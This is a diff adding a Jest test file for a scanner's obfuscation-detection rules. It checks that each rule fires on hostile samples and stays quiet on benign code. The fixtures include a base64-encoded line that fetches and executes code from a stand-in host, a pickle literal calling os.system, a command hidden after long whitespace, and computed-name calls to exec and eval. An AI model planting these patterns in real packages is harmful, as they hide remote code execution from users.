@@ -1,0 +1,194 @@
+// Obfuscation rules: encoded data reaching exec, literals decompressed in
+// place, text spelled as codes, names hidden behind getattr, packers, hidden
+// statements, and minified JavaScript where none belongs.
+import { describe, expect, it } from '@jest/globals';
+import { expectFires, expectQuiet } from '../helpers/rules';
+import { added, file, severities } from './helpers';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const PAYLOAD = b64(
+  'import os, urllib.request\n' + 'exec(urllib.request.urlopen("http://203.0.113.9/p").read())\n'.repeat(4)
+);
+
+describe('obfuscation/encoded-exec', () => {
+  it('fires critical when a decoder sits inside the exec call', () => {
+    const f = added('src/pkg/util.py', `import base64\n_c = "${PAYLOAD}"\nexec(base64.b64decode(_c))`);
+    expect(severities(f, 'obfuscation/encoded-exec')).toEqual(['critical']);
+  });
+
+  it('fires high when the decoded value reaches exec through a name (GuardDog exec-base64)', () => {
+    const f = added('src/pkg/util.py', 'code = base64.b64decode(blob)\nprint("loading")\nexec(code)');
+    expect(severities(f, 'obfuscation/encoded-exec')).toEqual(['high']);
+  });
+
+  it('fires on a process started with decoded arguments', () => {
+    const found1 = added('src/pkg/run.py', 'subprocess.Popen(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])');
+    expectFires(found1, 'obfuscation/encoded-exec', 1);
+  });
+
+  it('is quiet on decoding and exec that never meet (Sphinx conf, data loaders)', () => {
+    const conf = 'exec(open("../pkg/_version.py").read())\nlogo = base64.b64decode(LOGO_PNG)\n';
+    const found2 = file('docs/conf.py', conf);
+    expectQuiet(found2, 'obfuscation/encoded-exec');
+  });
+
+  it('is quiet on eval in numexpr-like code and on RegExp#exec in JavaScript', () => {
+    const found3 = file(
+      'pkg/expr.py',
+      'def evaluate(ex, local_dict):\n    return eval(compile(ex, "<expr>", "eval"), {}, local_dict)'
+    );
+    expectQuiet(found3, 'obfuscation/encoded-exec');
+    const found4 = file('src/parse.js', 'const m = /(\\d+)/.exec(atob(header));');
+    expectQuiet(found4, 'obfuscation/encoded-exec');
+  });
+});
+
+describe('obfuscation/bundled-js-payload', () => {
+  it('fires when decoded data reaches child_process in a dist/ bundle', () => {
+    const js = `const p = "${PAYLOAD}";\nrequire('child_process').execSync(Buffer.from(p, 'base64').toString('utf-8'));`;
+    const f = added('dist/index.js', js);
+    expectFires(f, 'obfuscation/bundled-js-payload');
+    expect(severities(f, 'obfuscation/bundled-js-payload')).toContain('critical');
+  });
+
+  it('is quiet on a bundle without encoded payloads', () => {
+    const found5 = added('dist/index.js', 'module.exports = function main() { return 1; };');
+    expectQuiet(found5, 'obfuscation/bundled-js-payload');
+  });
+});
+
+describe('obfuscation/long-encoded-literal', () => {
+  it('fires low on a long base64 literal in code', () => {
+    const f = added('src/pkg/x.py', `BLOB = "${PAYLOAD}"`);
+    expectFires(f, 'obfuscation/long-encoded-literal', 1);
+    expect(severities(f, 'obfuscation/long-encoded-literal')).toEqual(['low']);
+  });
+
+  it('is quiet on base64 images in a notebook output', () => {
+    const png = 'iVBORw0KGgoAAAANSUhEUgAA' + 'Ab3Xy9+/'.repeat(60);
+    const found6 = added('docs/plot.ipynb', `      "image/png": "${png}",`);
+    expectQuiet(found6, 'obfuscation/long-encoded-literal');
+  });
+});
+
+describe('obfuscation/decompress-literal', () => {
+  it('fires on marshal of a decompressed literal', () => {
+    const f = added('src/pkg/_speedups.py', "_code = marshal.loads(zlib.decompress(b'x\\x9c\\xcb\\xc8\\x0c\\x00'))");
+    expectFires(f, 'obfuscation/decompress-literal');
+    expect(severities(f, 'obfuscation/decompress-literal')).toContain('high');
+  });
+
+  it('is critical for a pickle literal that names os.system', () => {
+    const f = added('src/pkg/cache.py', 'obj = pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")');
+    expect(severities(f, 'obfuscation/decompress-literal')).toEqual(['critical']);
+  });
+
+  it('keeps a compatibility pickle in a test at low (astropy units)', () => {
+    const t = 'unit = pickle.loads(\n    b"\\x80\\x04\\x95\\xd6\\x00\\x8c\\x12astropy.units.core\\x94"\n)';
+    expect(severities(file('astropy/units/tests/test_units.py', t), 'obfuscation/decompress-literal')).toEqual(['low']);
+  });
+
+  it('is quiet when the data comes from input, not from the file (lmfit, numba)', () => {
+    const found7 = file('lmfit/jsonutils.py', "out = dill.loads(b64decode(obj['value']))");
+    expectQuiet(found7, 'obfuscation/decompress-literal');
+    const found8 = file('tests/test_codec.py', 'assert zlib.decompress(zlib.compress(DATA)) == DATA');
+    expectQuiet(found8, 'obfuscation/decompress-literal');
+  });
+});
+
+describe('obfuscation/char-code-chain', () => {
+  it('fires on chr() chains and fromCharCode lists that spell text', () => {
+    const found9 = added('src/pkg/h.py', 'name = chr(101) + chr(120) + chr(101) + chr(99) + chr(95) + chr(95)');
+    expectFires(found9, 'obfuscation/char-code-chain', 1);
+    const found10 = added('src/a.js', 'const f = String.fromCharCode(114, 101, 113, 117, 105, 114, 101);');
+    expectFires(found10, 'obfuscation/char-code-chain', 1);
+  });
+
+  it('fires high on escapes that spell eval (BlankOBF)', () => {
+    expect(
+      severities(added('src/pkg/o.py', '_____ = getattr(x, "\\145\\166\\141\\154")'), 'obfuscation/char-code-chain')
+    ).toEqual(['high']);
+  });
+
+  it('is quiet on a JPEG byte literal in a test (issue 13)', () => {
+    const jpeg =
+      'JPEG = b"\\xff\\xd8\\xff\\xe0\\x00\\x10JFIF\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x01\\x00\\x00\\xff\\xdb\\x00\\x43"';
+    const found11 = added('tests/test_io.py', jpeg);
+    expectQuiet(found11, 'obfuscation/char-code-chain');
+  });
+});
+
+describe('obfuscation/indirect-call', () => {
+  it('fires on builtins reached through computed names', () => {
+    const found12 = added('pkg/a.py', 'getattr(__builtins__, "ex" + "ec")(payload)');
+    expectFires(found12, 'obfuscation/indirect-call');
+    const found13 = added('pkg/b.py', 'vars(__builtins__)["eval"](src)');
+    expectFires(found13, 'obfuscation/indirect-call');
+    const found14 = added('pkg/c.py', 'os.__dict__["system"]("id")');
+    expectFires(found14, 'obfuscation/indirect-call');
+    const found15 = added('lib/d.js', "const cp = require('child_process');\ncp['sp' + 'awn']('node', ['x.js']);");
+    expectFires(found15, 'obfuscation/indirect-call');
+  });
+
+  it('is quiet on ordinary dynamic imports and attribute access (numpy, dask, sympy)', () => {
+    const py = [
+      'module = __import__(module, globals(), locals(), [])',
+      'return importlib.import_module(".".join(name.split(".")[:-1]))',
+      'builtins_dict = vars(builtins)',
+      'value = getattr(obj, name)',
+      'globals()[name] = getattr(mod, name)'
+    ].join('\n');
+    const found16 = file('pkg/utils.py', py);
+    expectQuiet(found16, 'obfuscation/indirect-call');
+    const found17 = file('src/app.js', 'window[callbackName](data);\nconst f = handlers[event.type];');
+    expectQuiet(found17, 'obfuscation/indirect-call');
+  });
+});
+
+describe('obfuscation/packer', () => {
+  it('fires on PyArmor and javascript-obfuscator output', () => {
+    const found18 = added(
+      'src/pkg/core.py',
+      "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')"
+    );
+    expectFires(found18, 'obfuscation/packer');
+    const js =
+      'const _0x1a2b3c = _0x4d5e;\n(function(_0x13c8b9, _0x35f660) {\n  while (!![]) { _0x66ea25["push"](_0x66ea25["shift"]()); }\n})(_0x4a2b, 0x46c);\nfunction _0x4d5e(_0x4a2b1c) { return _0x4a2b1c; }';
+    const found19 = added('src/index.js', js);
+    expectFires(found19, 'obfuscation/packer');
+  });
+
+  it('is quiet on code that merely uses hexadecimal numbers', () => {
+    const found20 = file('src/colors.js', 'const mask = 0x1f;\nconst x = value & 0xff;');
+    expectQuiet(found20, 'obfuscation/packer');
+  });
+});
+
+describe('obfuscation/hidden-code', () => {
+  it('fires on a statement placed after hundreds of spaces (W4SP stealer)', () => {
+    const found21 = added('src/pkg/__init__.py', `print("ok")${' '.repeat(200)};__import__("os").system("id")`);
+    expectFires(found21, 'obfuscation/hidden-code', 1);
+  });
+
+  it('is quiet on aligned data inside a multi-line string (sympy matrices)', () => {
+    const t = `expected = '''[1,${' '.repeat(190)}0],\n[1 - x,${' '.repeat(150)}1]]'''`;
+    const found22 = file('sympy/matrices/tests/test_matrices.py', t);
+    expectQuiet(found22, 'obfuscation/hidden-code');
+  });
+});
+
+describe('obfuscation/minified-js', () => {
+  const minified = `!function(e){${'var a=function(t){return t*2};'.repeat(4000)}}();`;
+
+  it('fires on a large minified script added outside dist/', () => {
+    const f = added('src/pkg/_runtime/router.js', minified);
+    expectFires(f, 'obfuscation/minified-js', 1);
+    expect(severities(f, 'obfuscation/minified-js')).toEqual(['medium']);
+  });
+
+  it('is low for a vendored library and quiet inside dist/', () => {
+    expect(severities(file('docs/_static/vendor/lib.min.js', minified), 'obfuscation/minified-js')).toEqual(['low']);
+    const found23 = added('dist/index.js', minified);
+    expectQuiet(found23, 'obfuscation/minified-js');
+  });
+});
